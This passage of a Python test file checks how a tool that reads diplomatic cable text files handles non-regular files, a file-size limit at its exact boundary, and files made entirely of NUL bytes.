        assert len(lines) == 1 and "not a regular file" in lines[0], r.stderr
    assert (tmp_path / "site" / "cables" / "07BEIJING3239" / "index.html").is_file()


def test_a_file_one_byte_over_the_limit_is_refused_and_one_at_it_is_read(tmp_path):
    """The limit is the limit: a cable padded to exactly MAX_CABLE_BYTES is read, one byte more is refused."""
    folder = tmp_path / "cables"
    folder.mkdir()
    text = SEED_3239.read_bytes()
    at, over = folder / "at.txt", folder / "over.txt"
    at.write_bytes(text + b"\n" * (readers.MAX_CABLE_BYTES - len(text)))
    over.write_bytes(text.replace(b"07BEIJING3239", b"07BEIJING3240") +
                     b"\n" * (readers.MAX_CABLE_BYTES + 1 - len(text)))
    problems = Problems()
    entries = read_collection([folder], problems, Store(tmp_path / "cache"), {}, [], show=False)
    assert [b.id for e in entries.values() for b in e["briefs"]] == ["07BEIJING3239"]
    assert [str(p) for p in problems.errors] == [f"{over}: error: the file is 10 MB, far larger than any cable "
                                                 "(limit 10 MB); split it or import it as a cables.csv"]


def test_a_file_of_nul_bytes_is_not_taken_for_utf16(content, tmp_path):
    """What a crash leaves of a file (its size, in zeros): NUL on both sides of every pair is not UTF-16 text."""
    zeros = b"\x00" * 4096
    assert readers.decode(zeros)[1] != "utf-16-le" and readers.decode(zeros)[1] != "utf-16-be"
    (content / "glossary.yaml").write_bytes(zeros)
    _, problems = loaded(content)
    assert problems and not [p for p in problems if "UTF-16" in p], problems
    path = tmp_path / "zeros.txt"
    path.write_bytes(zeros)
    problems = Problems()
    assert list(read_file(path, problems)) == []
    assert [str(p) for p in problems] == [f"{path}: error: the file is binary (it contains NUL bytes), not cable text"]
